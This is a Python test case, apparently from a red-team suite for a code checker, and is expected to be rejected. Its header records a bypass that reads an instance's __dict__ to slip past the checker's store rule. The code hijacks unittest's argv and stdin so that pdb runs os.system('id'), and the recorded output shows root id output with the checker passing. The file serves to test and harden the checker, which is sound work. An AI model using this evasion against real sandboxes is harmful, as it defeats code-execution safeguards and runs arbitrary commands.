# expect: reject store
# line: 34
# verified: red team round 16a (ok_11_dunder_dict_items_argv_stdin_pdb_runs_id), reaches its goal under plain python3 3.11 in a temp dir
# why: family D: a value read out of an instance's attribute table (vars(x), x.__dict__, a copy or view of them) carries the marks of every value stored into an attribute
# Mechanism (family D): as ok_08 but spelled with round 15's new relaxation, k.__dict__['args'] / k.__dict__['inp'] (x.__dict__ read in place is vars(x) for a name bound once to an instance of a closed class): the item read is taken as the program's value, so append and the attribute store on it pass the store rule.
# Goal reached: run a process (id).
# Run-time names: none given to a builtin by the program; no dunder given at run time.
# Output seen under python3 (checker exit 0; stdin </dev/null; first lines):
#   > /usr/lib/python3.11/unittest/loader.py(206)loadTestsFromName()
#   -> if isinstance(test, suite.TestSuite):
#   (Pdb) uid=0(root) gid=0(root) groups=0(root)
#   0
#   (Pdb) Traceback (most recent call last):
#     File "/tmp/tmp.By4blhJ8fo/p.py", line 22, in <module>
import logging
import sys
import unittest


class Keep:
    def __init__(self):
        self.args = sys.argv
        self.inp = sys.stdin
        self.lines = ["import os; os.system('id')\n", "c\n"]


def feed():
    if k.lines:
        return k.lines.pop(0)
    return ""


k = Keep()
k.__dict__["args"].append("logging.sys.breakpointhook")
k.__dict__["inp"].readline = feed
unittest.main(exit=False)
